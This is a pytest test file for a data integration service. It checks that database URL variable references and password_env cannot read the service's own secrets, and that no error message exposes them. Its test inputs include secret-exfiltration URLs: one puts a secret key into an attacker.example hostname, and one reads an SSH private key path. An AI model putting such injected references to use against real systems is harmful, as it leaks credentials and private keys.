"""A db integration's `${VAR}` references and `password_env` read only CLIENT_DB_* and CROSSDOCK_CLIENT_*
variables: Crossdock's own secrets (the admin password and token, CROSSDOCK_SECRET_KEY) are never put
into a client URL, and no message shows a resolved URL's password or query string (docs/how-to/operator/outbound-and-drops.md)."""

from __future__ import annotations

import dataclasses

import pytest
import requests
from pydantic import ValidationError

from connectors.sql.extract import pull_db
from connectors.sql.probe import probe_db
from pipelines import settings
from pipelines.errors import validation_issues
from pipelines.integrations import create_integration, parse_integration
from pipelines.sources import PullError
from tests.receiver_helpers import running

ADMIN_PASSWORD = "admin-pass-Xq81"
SECRET_KEY = "c2VjcmV0LWtleS1kby1ub3QtbGVhaw"


@pytest.fixture
def crossdock_secrets(monkeypatch) -> None:
    monkeypatch.setenv("CROSSDOCK_ADMIN_PASSWORD", ADMIN_PASSWORD)
    monkeypatch.setenv("CROSSDOCK_SECRET_KEY", SECRET_KEY)


def _db(url: str, **db) -> dict:
    return {"name": "erp", "type": "db", "db": {"url": url, "query": "SELECT 1 AS external_id", **db}}


def _issues(document: dict) -> list[dict[str, str]]:
    with pytest.raises(ValidationError) as refused:
        parse_integration(document)
    return validation_issues(refused.value)


@pytest.mark.parametrize(
    "url",
    [
        "postgresql+psycopg://erp:${CROSSDOCK_ADMIN_PASSWORD}@127.0.0.1:1/erp",
        "postgresql+psycopg://erp@${CROSSDOCK_SECRET_KEY}.attacker.example/erp",
        "mysql+pymysql://erp@127.0.0.1:1/erp?program_name=${CROSSDOCK_ADMIN_TOKEN}",
        "sqlite:///${HOME}/.ssh/id_rsa",
    ],
)
def test_a_reference_outside_the_allowed_prefixes_is_refused_when_saved_naming_the_variable(crossdock_secrets, url):
    issues = _issues(_db(url))
    assert [i["field"] for i in issues] == ["db.url"]
    name = url.split("${")[1].split("}")[0]
    assert f"not {name}" in issues[0]["message"] and "CLIENT_DB_* or CROSSDOCK_CLIENT_*" in issues[0]["message"]
    assert ADMIN_PASSWORD not in str(issues) and SECRET_KEY not in str(issues)


def test_password_env_may_not_name_crossdocks_own_secrets(crossdock_secrets):
    issues = _issues(_db("postgresql+psycopg://erp@127.0.0.1:1/erp", password_env="CROSSDOCK_SECRET_KEY"))
    assert [i["field"] for i in issues] == ["db.password_env"]
    assert "not CROSSDOCK_SECRET_KEY" in issues[0]["message"] and SECRET_KEY not in str(issues)


def test_the_admin_api_answers_422_without_the_value(sqlite_store, crossdock_secrets):
    admin = {"Authorization": f"Bearer {settings.admin_token()}"}
    document = _db("postgresql+psycopg://erp:${CROSSDOCK_ADMIN_PASSWORD}@127.0.0.1:1/erp")
    with running(sqlite_store) as url:
        answer = requests.post(f"{url}/integrations", json=document, headers=admin, timeout=30)
    assert answer.status_code == 422 and answer.json()["errors"][0]["field"] == "db.url"
    assert ADMIN_PASSWORD not in answer.text and "CROSSDOCK_ADMIN_PASSWORD" in answer.text


def test_a_configuration_stored_before_the_rule_is_refused_at_pull_and_probe_without_the_value(sqlite_store, crossdock_secrets):
    config = parse_integration(_db("postgresql+psycopg://erp:${CROSSDOCK_ADMIN_PASSWORD}@127.0.0.1:1/erp"), stored=True)
    probe = probe_db(config)
    assert (
        "may only read environment variables named CLIENT_DB_* or CROSSDOCK_CLIENT_*, not CROSSDOCK_ADMIN_PASSWORD" in probe.error
        and ADMIN_PASSWORD not in repr(probe)
    )
    stored = create_integration(sqlite_store, parse_integration(_db("postgresql+psycopg://erp@127.0.0.1:1/erp")))
    stored = dataclasses.replace(stored, config=config)
    with pytest.raises(PullError) as failed:
        pull_db(sqlite_store, stored)
    assert "not CROSSDOCK_ADMIN_PASSWORD" in str(failed.value) and ADMIN_PASSWORD not in str(failed.value)


def test_allowed_prefixes_resolve_and_no_message_shows_the_password_or_the_query_string(monkeypatch):
    monkeypatch.setenv("CROSSDOCK_CLIENT_DB_USER", "erp")
    monkeypatch.setenv("CLIENT_DB_PASSWORD", "pw-from-env-77")
    monkeypatch.setenv("CLIENT_DB_APP", "query-secret-55")
    config = parse_integration(
        _db(
            "postgresql+psycopg://${CROSSDOCK_CLIENT_DB_USER}@127.0.0.1:1/erp?application_name=${CLIENT_DB_APP}",
            password_env="CLIENT_DB_PASSWORD",
        )
    )
    probe = probe_db(config, timeout=2)
    assert not probe.reachable and probe.source == "postgresql+psycopg://erp:***@127.0.0.1:1/erp"
    assert "pw-from-env-77" not in repr(probe) and "query-secret-55" not in repr(probe)
    assert probe.error.startswith("the database is unreachable or refused the connection (postgresql+psycopg://erp:***@")
